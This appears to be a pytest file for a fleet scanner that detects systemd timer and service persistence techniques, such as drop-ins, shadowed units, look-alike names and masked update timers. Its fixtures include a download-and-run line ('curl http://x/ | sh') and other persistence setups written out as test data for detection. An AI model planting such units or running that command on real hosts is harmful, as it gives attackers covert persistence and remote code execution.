"""Each technique is found under its own name, also where several rules match."""

import pytest

from fleetscan.model.drift import Severity
from fleetscan.model.finding import Finding, Technique
from fleetscan.rulebook.entries import Trial
from fleetscan.rulebook.load import load_rules
from fleetscan.rulebook.trials import judge_trial

RULES = load_rules()
TIMER = "[Timer]\nOnCalendar=daily\n"
SERVICE = "[Service]\nExecStart=/usr/bin/true\n"
VENDOR = "/usr/lib/systemd/system"


def judge(trial: Trial) -> tuple[Finding, ...]:
    return judge_trial(trial, RULES)


ETC = "/etc/systemd/system"
NORMAL = {"dir": VENDOR, "timer": TIMER, "service": "[Service]\nExecStart=/usr/bin/report\n"}
ATTACKS: tuple[tuple[str, Technique, dict[str, object]], ...] = (
    ("a pair", Technique.PLAIN_PAIR, {"timer": TIMER, "service": "[Service]\nExecStart=/opt/q\n", "before": {}}),
    ("a pair that downloads", Technique.PLAIN_PAIR,
     {"timer": TIMER, "service": "[Service]\nExecStart=/bin/sh -c 'curl http://x/ | sh'\n", "before": {}}),
    ("a pair of a user", Technique.USER_UNIT,
     {"files": {"/home/a/.config/systemd/user/x.timer": TIMER, "/home/a/.config/systemd/user/x.service": SERVICE},
      "before": {}}),
    ("a link out", Technique.LINK_OUT,
     {"files": {f"{ETC}/x.timer": "-> /opt/x", "/opt/x": TIMER, f"{ETC}/x.service": SERVICE}, "before": {}}),
    ("below run", Technique.UNUSUAL_DIRECTORY,
     {"dir": "/run/systemd/system", "timer": TIMER, "service": SERVICE, "before": {}}),
    ("a look-alike", Technique.LOOK_ALIKE,
     {"unit": "logrotatte", "timer": TIMER, "service": SERVICE, "before": {}, "vendor_names": ["logrotate"]}),
    ("a drop-in", Technique.DROP_IN,
     {**NORMAL, "files": {f"{ETC}/sample.service.d/x.conf": "[Service]\nExecStartPost=/bin/true\n"}, "before": NORMAL}),
    ("a family's drop-in", Technique.DROP_IN,
     {**NORMAL, "unit": "a-b", "files": {f"{ETC}/a-.service.d/x.conf": "[Service]\nExecStartPost=/bin/true\n"},
      "before": {**NORMAL, "unit": "a-b"}}),
    ("a shadow", Technique.SHADOW,
     {**NORMAL, "files": {f"{ETC}/sample.service": "[Service]\nExecStart=/usr/bin/report --x\n"}, "before": NORMAL}),
    ("a retarget", Technique.RETARGET,
     {**NORMAL, "files": {f"{ETC}/sample.timer.d/x.conf": "[Timer]\nUnit=q.service\n", f"{ETC}/q.service": SERVICE},
      "before": NORMAL}),
    ("dormant", Technique.DORMANT, {"timer": TIMER, "service": SERVICE, "enabled": False, "before": {}}),
    ("an odd text", Technique.EVASION,
     {"timer": TIMER, "service": "[Service]\nExecStart=/usr/bin/tr\\x75e\n", "before": {}}),
    ("a swapped script", Technique.PAYLOAD,
     {"timer": TIMER, "service": "[Service]\nExecStart=/opt/x\n", "programs": {"/opt/x": "1"},
      "before": {"timer": TIMER, "service": "[Service]\nExecStart=/opt/x\n", "programs": {"/opt/x": "2"}}}),
    ("an open script", Technique.WRITABLE,
     {"timer": TIMER, "service": "[Service]\nExecStart=/opt/x\n",
      "programs": {"/opt/x": {"exposed": ["/opt/x root:root 0777"]}},
      "before": {"timer": TIMER, "service": "[Service]\nExecStart=/opt/x\n"}}),
    ("masked updates", Technique.IMPAIRMENT,
     {**NORMAL, "unit": "apt-daily", "files": {f"{ETC}/apt-daily.timer": "-> /dev/null"},
      "memory": {"apt-daily.timer": {"LoadState": "masked", "ActiveState": "inactive"}},
      "before": {**NORMAL, "unit": "apt-daily"}}),
    ("pulled in", Technique.INDIRECT,
     {**NORMAL, "files": {f"{ETC}/sample.service.d/x.conf": "[Unit]\nOnFailure=q.service\n"}, "before": NORMAL}),
)  # fmt: skip


@pytest.mark.parametrize(
    ("technique", "host"), [(t, h) for _n, t, h in ATTACKS], ids=[name for name, _t, _h in ATTACKS]
)
def test_the_special_technique_names_a_finding(technique: Technique, host: dict[str, object]) -> None:
    findings = judge(Trial.model_validate({"name": "an attack", **host}))
    assert findings[0].techniques[0] is technique
    assert findings[0].severity >= Severity.MEDIUM


@pytest.mark.parametrize(
    ("technique", "host"), [(t, h) for _n, t, h in ATTACKS], ids=[name for name, _t, _h in ATTACKS]
)
def test_the_same_on_all_hosts_is_no_difference(technique: Technique, host: dict[str, object]) -> None:
    findings = judge(Trial.model_validate({"name": "as everywhere", **host, "like": 11}))
    drift_rules = {rule.id for rule in RULES if rule.needs_drift}
    assert [finding for finding in findings if drift_rules & {hit.rule for hit in finding.hits}] == []
